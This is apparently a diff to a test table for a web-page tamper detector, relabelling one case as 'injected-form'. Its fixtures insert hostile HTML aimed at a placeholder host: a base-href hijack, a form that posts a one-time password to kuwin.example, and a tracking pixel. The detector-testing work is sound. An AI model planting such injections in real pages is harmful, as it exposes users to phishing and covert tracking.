@@ -99,7 +99,7 @@ FILES: dict[str, tuple[str, Tamper]] = {
         edit("index.html", "<title>", "<base href=//kuwin.example/><title>"),
     ),
     "form asks for an OTP": (
-        "foreign-link",
+        "injected-form",
         edit(LESSON, "</main>", "<form action=https://kuwin.example/otp><input name=otp></form></main>"),
     ),
     "counting pixel": ("foreign-link", edit(HELP, "</main>", "<img src=//stat.kuwin.example/p.gif width=1></main>")),
